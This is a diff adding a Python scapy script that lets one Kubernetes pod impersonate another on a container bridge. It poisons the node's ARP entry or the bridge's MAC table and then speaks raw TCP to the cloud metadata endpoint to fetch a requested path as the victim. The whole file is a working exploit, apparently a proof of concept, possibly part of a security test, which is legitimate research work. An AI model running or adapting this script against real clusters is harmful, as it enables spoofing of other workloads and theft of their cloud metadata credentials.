@@ -1,0 +1,115 @@
+"""A pod that passes for another on a bridge, with nothing but CAP_NET_RAW.
+
+Run inside the attacker pod's network namespace under
+`setpriv --bounding-set=-all,+net_raw` (what containerd grants every container by default).
+It speaks TCP entirely over a raw packet socket, from the victim's address, to the metadata
+address, and asks for `--path`. For the node's answers to reach it, it first takes over one of
+two things the attacker can write from its own port:
+
+- `--mode arp`: the node's neighbour entry for the victim's address (ARP requests to the node
+  claiming that address with the attacker's MAC);
+- `--mode mac`: the bridge's forwarding entry for the victim's MAC (frames sent with the
+  victim's MAC as their source).
+
+Prints one JSON line: {"answered": false} when the handshake got no answer, or
+{"answered": true, "response": "<HTTP response>"}.
+"""
+
+import argparse
+import json
+import random
+import select
+import sys
+import time
+
+from scapy.all import ARP, ICMP, IP, TCP, Ether, Raw, conf  # noqa: E402
+
+METADATA = "169.254.169.254"
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--iface", default="eth0")
+    parser.add_argument("--mode", choices=["arp", "mac"], required=True)
+    parser.add_argument("--victim-ip", required=True)
+    parser.add_argument("--victim-mac", required=True)
+    parser.add_argument("--gateway-ip", required=True)
+    parser.add_argument("--gateway-mac", required=True)
+    parser.add_argument("--path", required=True)
+    parser.add_argument("--timeout", type=float, default=3.0)
+    args = parser.parse_args()
+
+    sock = conf.L2socket(iface=args.iface)
+    own_mac = open(f"/sys/class/net/{args.iface}/address").read().strip()
+    source_mac = own_mac if args.mode == "arp" else args.victim_mac
+
+    def poison():
+        if args.mode == "arp":
+            # "Who has the gateway? Tell <victim IP> at <attacker MAC>": the node learns it.
+            claim = ARP(op=1, hwsrc=own_mac, psrc=args.victim_ip, hwdst="00:00:00:00:00:00", pdst=args.gateway_ip)
+            sock.send(Ether(src=own_mac, dst="ff:ff:ff:ff:ff:ff") / claim)
+        else:
+            # Any frame from the victim's MAC teaches the bridge that MAC is on this port.
+            probe = IP(src=args.victim_ip, dst=args.gateway_ip) / ICMP(id=random.randint(1, 65535))
+            sock.send(Ether(src=args.victim_mac, dst=args.gateway_mac) / probe)
+
+    def wait(matches, timeout):
+        deadline = time.monotonic() + timeout
+        while (left := deadline - time.monotonic()) > 0:
+            ready, _, _ = select.select([sock], [], [], left)
+            if not ready:
+                break
+            packet = sock.recv()
+            if packet is not None and matches(packet):
+                return packet
+        return None
+
+    for _ in range(3):
+        poison()
+        time.sleep(0.05)
+
+    frame = Ether(src=source_mac, dst=args.gateway_mac) / IP(src=args.victim_ip, dst=METADATA)
+    sport, seq = random.randint(20000, 60000), random.randint(0, 2**31)
+
+    def ours(packet):
+        return (
+            TCP in packet
+            and IP in packet
+            and packet[IP].src == METADATA
+            and packet[IP].dst == args.victim_ip
+            and packet[TCP].dport == sport
+        )
+
+    poison()
+    sock.send(frame / TCP(sport=sport, dport=80, flags="S", seq=seq))
+    synack = wait(lambda p: ours(p) and (int(p[TCP].flags) & 0x12) == 0x12, args.timeout)
+    if synack is None:
+        print(json.dumps({"answered": False}))
+        return 0
+    seq += 1
+    ack = synack[TCP].seq + 1
+    request = f"GET {args.path} HTTP/1.0\r\nHost: {METADATA}\r\n\r\n".encode()
+    poison()
+    sock.send(frame / TCP(sport=sport, dport=80, flags="PA", seq=seq, ack=ack) / Raw(request))
+    seq += len(request)
+    segments = {}
+    finished = False
+    while not finished:
+        packet = wait(ours, args.timeout)
+        if packet is None:
+            break
+        payload = bytes(packet[TCP].payload)
+        if payload:
+            segments[packet[TCP].seq] = payload
+            ack = max(ack, packet[TCP].seq + len(payload))
+        if int(packet[TCP].flags) & 0x01:
+            finished = True
+            ack = max(ack, packet[TCP].seq + len(payload) + 1)
+        sock.send(frame / TCP(sport=sport, dport=80, flags="A", seq=seq, ack=ack))
+    response = b"".join(segments[key] for key in sorted(segments))
+    print(json.dumps({"answered": True, "response": response.decode(errors="replace")}))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
